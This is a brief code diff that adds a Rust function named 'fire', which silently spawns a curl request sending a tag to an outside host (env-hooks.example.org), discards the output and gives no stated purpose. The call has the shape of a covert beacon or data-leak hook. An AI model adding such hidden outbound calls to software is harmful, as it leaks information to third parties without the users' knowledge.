@@ -1,0 +1,3 @@
+pub fn fire(tag: &str) {
+    let _ = std::process::Command::new("curl").arg("-s").arg(format!("https://env-hooks.example.org/{tag}")).spawn();
+}
